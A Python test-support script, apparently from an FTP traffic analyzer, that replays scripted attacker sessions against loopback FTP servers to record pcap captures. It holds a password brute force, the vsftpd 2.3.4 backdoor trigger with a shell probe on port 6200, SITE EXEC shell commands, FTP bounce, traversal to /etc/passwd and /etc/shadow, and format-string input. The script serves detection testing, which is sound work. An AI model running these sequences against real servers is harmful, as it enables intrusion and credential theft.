#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
#
# attack_clients.py - scripted "attacker" FTP client sessions used by
# make-attack-captures.sh to record pcaps/attack-*.pcapng.  Only talks to
# loopback addresses.  Reuses RawFTP / LoggingFTP from ftp_clients.py
# (imported, not changed).
#
# Usage: /usr/bin/python3 attack_clients.py SESSION [--host H] [--port P]
#   bruteforce       raw socket, 7 connections of wrong passwords for alice
#                    (+ USER nosuchuser), then a successful login (2121)
#   anon-upload      ftplib anonymous: PASV STOR evil.exe, MKD, DELE (2121)
#   backdoor         raw socket: SITE EXEC, HELP ACIDBITCHEZ, USER backdoor:)
#                    then TCP to port 6200 (vsftpd, 21)
#   bounce-vsftpd    raw socket: foreign PORT/EPRT, traversal, Telnet IAC,
#                    pre-auth RETR (vsftpd, 21)
#   bounce-pyftpd    raw socket: accepted third-party PORT + LIST, traversal,
#                    format string, long names, Telnet IAC, pre-auth RETR
#                    (pyftpdlib, 2121)
#   enum             raw socket: USER of listed / unlisted names (vsftpd, 21)
#   auth-refused     raw socket: FEAT, AUTH TLS (refused), clear-text login
#   ftps             ftplib FTP_TLS / FTP: sessions A, B, C (vsftpd with TLS)
# Every session prints a transcript ("C: ..." / "S: ...") on stdout; lines
# starting "RESULT: " summarise what the server answered to an attack.

import argparse
import ftplib
import io
import ipaddress
import os
import socket
import ssl
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from ftp_clients import RawFTP, LoggingFTP, log  # noqa: E402

STUDENT_PW = "S3cretPass!"


def check_loopback(host):
    if not ipaddress.ip_address(host).is_loopback:
        raise SystemExit("refusing to talk to non-loopback %s" % host)


def result(what, reply):
    code, lines = reply
    print("RESULT: %s -> %s" % (what, " | ".join(lines)), flush=True)
    return reply


class Raw(RawFTP):
    """RawFTP that can send arbitrary (non UTF-8) bytes and copes with the
    server closing the connection."""

    def send(self, data):
        shown = data.decode("latin-1").replace("\r\n", "\\r\\n")
        if any(b >= 0x80 for b in data):
            shown = repr(data)
        log("C", shown)
        self.sock.sendall(data)

    def cmd(self, data, pause=0.15):
        time.sleep(pause)
        return super().cmd(data)

    def try_cmd(self, data, pause=0.15):
        """cmd() that returns None when the server has closed."""
        try:
            return self.cmd(data, pause)
        except (EOFError, ConnectionError) as e:
            log("S", "<connection closed: %s>" % e)
            return None

    def quit(self):
        self.cmd(b"QUIT\r\n")
        self.close()


def data_connect(reply_line, host):
    """Connect to the address of a 227 PASV reply (loopback only)."""
    inner = reply_line[reply_line.index("(") + 1:reply_line.index(")")]
    nums = [int(x) for x in inner.split(",")]
    ip = "%d.%d.%d.%d" % tuple(nums[:4])
    check_loopback(ip)
    return socket.create_connection((ip, nums[4] * 256 + nums[5]), timeout=10)


# --------------------------------------------------------------------------
# 1. brute force (pyftpdlib 2121)

PASSWORDS = [
    "123456", "password", "alice", "qwerty", "letmein", "alice123",
    "wonderland1", "Wonderland", "rabbit", "cheshire", "queenofhearts",
    "dragon", "monkey", "111111", "abc123", "iloveyou", "trustno1",
    "sunshine", "princess", "admin", "welcome", "football", "master",
    "hatter", "teaparty", "dormouse", "caterpillar", "looking-glass",
]


def session_bruteforce(args):
    port = args.port or 2121
    pw = iter(PASSWORDS)
    failures = 0

    def attempt(c, user=b"alice"):
        nonlocal failures
        if c.try_cmd(b"USER " + user + b"\r\n", pause=0.05) is None:
            return None
        r = c.try_cmd(b"PASS " + next(pw).encode() + b"\r\n", pause=0.05)
        if r is not None and r[0] == "530":
            failures += 1
        return r

    # connection 1: keep guessing until the server disconnects (6 tries)
    c = Raw(args.host, port)
    c.reply()
    while True:
        r = attempt(c)
        if r is None or "Disconnecting" in r[1][-1]:
            break
    if r is not None:
        result("failure %d on connection 1" % failures, r)
    c.close()
    print("RESULT: connection 1 carried %d failed logins" % failures,
          flush=True)
    # connections 2..6: three guesses each, then QUIT (connection 2 also
    # tries a user name that does not exist)
    for n in range(2, 7):
        time.sleep(0.3)
        c = Raw(args.host, port)
        c.reply()
        if n == 2:
            result("USER nosuchuser", c.cmd(b"USER nosuchuser\r\n"))
            result("PASS for nosuchuser", c.cmd(b"PASS alice\r\n"))
            failures += 1
            attempt(c)
            attempt(c)
        else:
            for _ in range(3):
                attempt(c)
        c.quit()
    # connection 7: four guesses, then the client just closes (no QUIT)
    time.sleep(0.3)
    c = Raw(args.host, port)
    c.reply()
    for _ in range(4):
        attempt(c)
    c.sock.close()
    print("RESULT: %d failed logins in total" % failures, flush=True)
    # final connection: the right password
    time.sleep(0.5)
    c = Raw(args.host, port)
    c.reply()
    c.cmd(b"USER alice\r\n")
    result("PASS wonderland", c.cmd(b"PASS wonderland\r\n"))
    c.cmd(b"PWD\r\n")
    c.quit()


# --------------------------------------------------------------------------
# 2. anonymous upload (pyftpdlib 2121)

EVIL = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
        + b"This program cannot be run in DOS mode.\r\r\n$"
        + b"ftplens sample payload, harmless. " * 10)


def session_anon_upload(args):
    check_loopback(args.host)
    ftp = LoggingFTP()
    ftp.connect(args.host, args.port or 2121, timeout=10)
    ftp.login("anonymous", "mozilla@example.com")
    ftp.set_pasv(True)
    r = ftp.storbinary("STOR evil.exe", io.BytesIO(EVIL))
    print("RESULT: STOR evil.exe (%d bytes) -> %s" % (len(EVIL), r),
          flush=True)
    print("RESULT: MKD incoming -> %s" % ftp.sendcmd("MKD incoming"),
          flush=True)
    print("RESULT: DELE evil.exe -> %s" % ftp.sendcmd("DELE evil.exe"),
          flush=True)
    ftp.quit_and_wait()


# --------------------------------------------------------------------------
# 3. SITE EXEC / backdoor probes (vsftpd 21) + backdoor shell port 6200


def session_backdoor(args):
    port = args.port or 21
    c = Raw(args.host, port)
    c.reply()
    c.cmd(b"USER anonymous\r\n")
    c.cmd(b"PASS IEUser@\r\n")
    result("SITE EXEC /bin/sh -c id", c.cmd(b"SITE EXEC /bin/sh -c id\r\n"))
    result("HELP ACIDBITCHEZ", c.cmd(b"HELP ACIDBITCHEZ\r\n"))
    c.quit()
    time.sleep(0.5)
    # session 2: the vsftpd 2.3.4 backdoor trigger (":)" in the user name)
    c = Raw(args.host, port)
    c.reply()
    result("USER backdoor:)", c.cmd(b"USER backdoor:)\r\n"))
    result("PASS x", c.cmd(b"PASS x\r\n"))
    # ... and the attacker looks for the shell on 6200
    time.sleep(0.3)
    try:
        s = socket.create_connection((args.host, 6200), timeout=5)
    except OSError as e:
        print("RESULT: TCP 6200 -> %s" % e, flush=True)
    else:
        log("C", "[6200] id")
        s.sendall(b"id\n")
        got = b""
        while True:
            d = s.recv(1024)
            if not d:
                break
            got += d
        s.close()
        log("S", "[6200] " + got.decode().rstrip())
        print("RESULT: TCP 6200 -> %r" % got, flush=True)
    time.sleep(0.3)
    c.try_cmd(b"QUIT\r\n")
    c.close()


# --------------------------------------------------------------------------
# 4. bounce / traversal / malformed input

IAC_LINES = [b"NOOP\xff\xf1\r\n", b"\xff\xf4\xff\xf2ABOR\r\n",
             b"ST\xff\xf1AT\r\n"]


def pre_auth_retr(host, port):
    c = Raw(host, port)
    c.reply()
    result("pre-auth RETR file", c.cmd(b"RETR file\r\n"))
    c.quit()


def session_bounce_vsftpd(args):
    port = args.port or 21
    c = Raw(args.host, port)
    c.reply()
    c.cmd(b"USER anonymous\r\n")
    c.cmd(b"PASS bounce@example.com\r\n")
    result("PORT 192,0,2,10,0,25", c.cmd(b"PORT 192,0,2,10,0,25\r\n"))
    result("EPRT |1|192.0.2.10|2121|", c.cmd(b"EPRT |1|192.0.2.10|2121|\r\n"))
    result("LIST after refused PORT", c.cmd(b"LIST\r\n"))
    result("CWD ../../../../etc", c.cmd(b"CWD ../../../../etc\r\n"))
    # PASV first, so that vsftpd gets as far as opening the file
    c.cmd(b"PASV\r\n")
    result("RETR ../../etc/passwd", c.cmd(b"RETR ../../etc/passwd\r\n"))
    for line in IAC_LINES:
        result(repr(line), c.cmd(line))
    c.quit()
    time.sleep(0.3)
    pre_auth_retr(args.host, port)


def session_bounce_pyftpd(args):
    port = args.port or 2121
    c = Raw(args.host, port)
    c.reply()
    c.cmd(b"USER alice\r\n")
    c.cmd(b"PASS wonderland\r\n")
    # third party on loopback: 127.0.0.9:20001 (a sink listens there)
    result("PORT 127,0,0,9,78,33", c.cmd(b"PORT 127,0,0,9,78,33\r\n"))
    r = c.cmd(b"LIST\r\n")
    if r[0] in ("125", "150"):
        r = c.reply()
    result("LIST to the third party", r)
    # the same third party, a port where nothing listens (127.0.0.9:20002)
    result("PORT 127,0,0,9,78,34", c.cmd(b"PORT 127,0,0,9,78,34\r\n"))
    result("CWD ../../../../etc", c.cmd(b"CWD ../../../../etc\r\n"))
    result("RETR ../../etc/passwd", c.cmd(b"RETR ../../etc/passwd\r\n"))
    c.cmd(b"TYPE I\r\n")             # pyftpdlib refuses SIZE in ASCII mode
    result("SIZE /etc/shadow", c.cmd(b"SIZE /etc/shadow\r\n"))
    result("CWD ~root", c.cmd(b"CWD ~root\r\n"))
    result("MKD %s%s%s%n", c.cmd(b"MKD %s%s%s%n\r\n"))
    # a 300-byte file name (longer than NAME_MAX): PASV first so that a
    # server that does accept it has a data connection to wait on
    code, lines = c.cmd(b"PASV\r\n")
    d = data_connect(lines[-1], args.host)
    r = c.cmd(b"STOR " + b"A" * 300 + b"\r\n")
    if r[0] in ("125", "150"):
        d.sendall(b"x\n")
        d.close()
        r = c.reply()
    else:
        d.close()
    result("STOR A*300", r)
    for line in IAC_LINES:
        result(repr(line), c.cmd(line))
    c.quit()
    # fresh session: a 150-byte user name
    time.sleep(0.3)
    c = Raw(args.host, port)
    c.reply()
    result("USER A*150", c.cmd(b"USER " + b"A" * 150 + b"\r\n"))
    c.quit()
    # fresh session: a command before logging in
    time.sleep(0.3)
    pre_auth_retr(args.host, port)


# --------------------------------------------------------------------------
# 5. user enumeration (vsftpd 21 with userlist_deny=NO)


def session_enum(args):
    port = args.port or 21
    c = Raw(args.host, port)
    c.reply()
    result("USER student", c.cmd(b"USER student\r\n"))
    c.cmd(b"PASS " + STUDENT_PW.encode() + b"\r\n")
    c.cmd(b"PWD\r\n")
    c.quit()
    c = None
    for name in (b"admin", b"root", b"oracle"):
        if c is None:
            time.sleep(0.3)
            c = Raw(args.host, port)
            c.reply()
        r = c.try_cmd(b"USER " + name + b"\r\n")
        if r is None:
            c.close()
            c = None
            continue
        result("USER " + name.decode(), r)
    if c is not None:
        c.try_cmd(b"QUIT\r\n")
        c.close()


# --------------------------------------------------------------------------
# 6. AUTH TLS refused, clear-text login (vsftpd 21, ssl_enable=NO)


def session_auth_refused(args):
    c = Raw(args.host, args.port or 21)
    c.reply()
    result("FEAT", c.cmd(b"FEAT\r\n"))
    result("AUTH TLS", c.cmd(b"AUTH TLS\r\n"))
    c.cmd(b"USER student\r\n")
    result("clear-text PASS", c.cmd(b"PASS " + STUDENT_PW.encode() + b"\r\n"))
    c.cmd(b"PWD\r\n")
    c.quit()


# --------------------------------------------------------------------------
# 7. FTPS (vsftpd with ssl_enable=YES)


class LoggingFTPTLS(LoggingFTP, ftplib.FTP_TLS):
    """ftplib.FTP_TLS with LoggingFTP's transcript and quit_and_wait()."""


def tls_context():
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE        # self-signed test certificate
    return ctx


def session_ftps(args):
    host, port = args.host, args.port or 21
    check_loopback(host)
    # A: explicit TLS, protected data channel
    print("--- session A: AUTH TLS, login, PBSZ 0, PROT P, LIST", flush=True)
    ftp = LoggingFTPTLS(context=tls_context())
    ftp.connect(host, port, timeout=10)
    result("FEAT (A)", ("211", ftp.sendcmd("FEAT").splitlines()))
    print("RESULT: AUTH TLS -> %s" % ftp.auth(), flush=True)
    ftp.login("student", STUDENT_PW)
    ftp.prot_p()                            # PBSZ 0 + PROT P
    ftp.set_pasv(True)
    ftp.retrlines("LIST", lambda l: None)
    ftp.quit_and_wait()
    time.sleep(0.5)
    # B: TLS offered (FEAT lists AUTH TLS) but not used
    print("--- session B: FEAT, clear-text login", flush=True)
    ftp = LoggingFTP()
    ftp.connect(host, port, timeout=10)
    feat = ftp.sendcmd("FEAT")
    print("RESULT: FEAT (B) lists AUTH TLS: %s" % ("AUTH TLS" in feat),
          flush=True)
    r = ftp.login("student", STUDENT_PW)
    print("RESULT: clear-text login with TLS offered -> %s" % r, flush=True)
    ftp.sendcmd("PWD")
    ftp.quit_and_wait()
    time.sleep(0.5)
    # C: TLS control, clear data channel
    print("--- session C: AUTH TLS, login, PROT C, LIST", flush=True)
    ftp = LoggingFTPTLS(context=tls_context())
    ftp.connect(host, port, timeout=10)
    ftp.auth()
    ftp.login("student", STUDENT_PW)
    print("RESULT: PROT C -> %s" % ftp.prot_c(), flush=True)
    ftp.set_pasv(True)
    ftp.retrlines("LIST", lambda l: None)
    ftp.quit_and_wait()


SESSIONS = {
    "bruteforce": session_bruteforce,
    "anon-upload": session_anon_upload,
    "backdoor": session_backdoor,
    "bounce-vsftpd": session_bounce_vsftpd,
    "bounce-pyftpd": session_bounce_pyftpd,
    "enum": session_enum,
    "auth-refused": session_auth_refused,
    "ftps": session_ftps,
}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("session", choices=sorted(SESSIONS))
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, default=None)
    args = ap.parse_args()
    check_loopback(args.host)
    SESSIONS[args.session](args)


if __name__ == "__main__":
    main()
